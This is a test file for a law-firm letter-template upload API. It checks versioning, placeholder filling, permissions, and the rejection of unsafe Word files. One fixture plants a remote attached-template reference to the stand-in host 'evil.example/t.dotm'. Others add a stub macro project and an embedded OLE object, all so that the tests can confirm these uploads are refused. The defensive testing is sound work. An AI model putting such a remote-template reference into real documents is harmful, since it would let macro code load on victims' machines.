import { Document, Header, Packer, Paragraph, TextRun } from 'docx';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { docxPart, docxParts, wordText } from '../test-support/docx-tools.ts';
import { letterCase } from '../test-support/letter-case.ts';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** A firm letterhead as Word saves it: the placeholders split across runs, {{正文}} a paragraph of its own. */
async function firmTemplate(opts: { body?: boolean; extra?: string } = {}): Promise<Uint8Array> {
  const doc = new Document({
    sections: [
      {
        headers: { default: new Header({ children: [new Paragraph({ children: [new TextRun({ text: '{{律所}}', bold: true }), new TextRun('　函号：{{'), new TextRun('函号}}')] })] }) },
        children: [
          new Paragraph({ children: [new TextRun('明理律师事务所 · 专用信笺')] }),
          ...(opts.body === false ? [] : [new Paragraph({ children: [new TextRun('{{'), new TextRun({ text: '正文', bold: true }), new TextRun('}}')] })]),
          new Paragraph({ children: [new TextRun(`本函发出日期：{{日期}}${opts.extra ?? ''}`)] }),
        ],
      },
    ],
  });
  return new Uint8Array(await Packer.toBuffer(doc));
}

function withParts(docx: Uint8Array, edit: (files: Record<string, Uint8Array>) => void): Uint8Array {
  const files = unzipSync(docx);
  edit(files);
  return zipSync(files);
}

describe('firm letter templates (issue 10 item 5)', () => {
  test('upload is versioned by name, and a letter drafted in it keeps the letterhead and fills every placeholder', async () => {
    const { app, legal, letter, adopted } = await letterCase();
    const upload = async (bytes: Uint8Array) =>
      app.request('/api/legal/templates?name=明理信笺', { method: 'POST', headers: { ...legal.headers, 'content-type': DOCX }, body: bytes as BodyInit });
    const v1 = await upload(await firmTemplate());
    expect(v1.status).toBe(201);
    expect(await v1.json()).toMatchObject({ name: '明理信笺', version: 1, placeholders: ['正文', '函号', '日期', '律所'] });
    const v2 = (await (await upload(await firmTemplate({ extra: '（第二版）' }))).json()) as { id: string; version: number };
    expect(v2.version).toBe(2);
    const list = (await (await app.request('/api/legal/templates', { headers: legal.headers })).json()) as { items: { name: string; version: number }[] };
    expect(list.items.map((t) => t.version)).toEqual([2, 1]);

    const res = await letter({ templateId: v2.id });
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    const body = wordText(await docxPart(bytes));
    expect(body).toContain('明理律师事务所 · 专用信笺');
    expect(body).toContain('律师函');
    expect(body).toContain(`存证编号 ${adopted}`);
    expect(body).toContain('本函发出日期：2026年11月22日（第二版）');
    expect(body).not.toContain('{{');
    const header = (await docxParts(bytes)).find((p) => /^word\/header\d*\.xml$/.test(p))!;
    expect(wordText(await docxPart(bytes, header))).toMatch(/^北京明理律师事务所　函号：AJ-\d{4}-\d+-律函$/m);
  });

  test.each([
    ['a .docm content type', async () => firmTemplate(), 'application/vnd.ms-word.document.macroEnabled.12', 400, 'template_macro'],
    ['vbaProject.bin inside a .docx', async () => withParts(await firmTemplate(), (f) => { f['word/vbaProject.bin'] = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]); }), DOCX, 400, 'template_macro'],
    ['an embedded OLE object', async () => withParts(await firmTemplate(), (f) => { f['word/embeddings/oleObject1.bin'] = new Uint8Array(16); }), DOCX, 400, 'template_macro'],
    ['a remote attached template', async () => withParts(await firmTemplate(), (f) => { f['word/_rels/settings.xml.rels'] = strToU8('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'); }), DOCX, 400, 'template_external'],
    ['a spreadsheet', async () => withParts(await firmTemplate(), (f) => { f['[Content_Types].xml'] = strToU8(new TextDecoder().decode(f['[Content_Types].xml']).replace('wordprocessingml.document.main+xml', 'spreadsheetml.sheet.main+xml')); }), DOCX, 400, 'template_not_docx'],
    ['not a ZIP', async () => new Uint8Array(Buffer.from('这不是 Word 文件')), DOCX, 400, 'template_malformed'],
    ['a ZIP without word/document.xml', async () => zipSync({ '[Content_Types].xml': strToU8('<Types/>') }), DOCX, 400, 'template_malformed'],
    ['no {{正文}}', async () => firmTemplate({ body: false }), DOCX, 400, 'template_placeholder'],
    ['an unknown placeholder', async () => firmTemplate({ extra: '{{对方地址}}' }), DOCX, 400, 'template_placeholder'],
    ['more than 5 MB', async () => new Uint8Array(5 * 1024 * 1024 + 1), DOCX, 413, 'payload_too_large'],
    ['a PDF', async () => firmTemplate(), 'application/pdf', 415, 'unsupported_media_type'],
  ])('%s is refused with a clear error, and nothing is stored', async (_name, make, type, status, code) => {
    const { app, legal } = await letterCase();
    const res = await app.request('/api/legal/templates?name=x', { method: 'POST', headers: { ...legal.headers, 'content-type': type }, body: (await make()) as BodyInit });
    expect(res.status).toBe(status);
    const err = (await res.json()) as { error: { code: string; message: string } };
    expect(err.error.code).toBe(code);
    expect(err.error.message).toMatch(/[\u4e00-\u9fff]/);
    expect(((await (await app.request('/api/legal/templates', { headers: legal.headers })).json()) as { items: unknown[] }).items).toEqual([]);
  });

  test('staff and PR leads cannot upload or list templates', async () => {
    const { app, staff, pr } = await letterCase();
    for (const h of [staff.headers, pr.headers]) {
      expect((await app.request('/api/legal/templates', { headers: h })).status).toBe(403);
      expect((await app.request('/api/legal/templates?name=x', { method: 'POST', headers: { ...h, 'content-type': DOCX }, body: await firmTemplate() as BodyInit })).status).toBe(403);
    }
  });
});
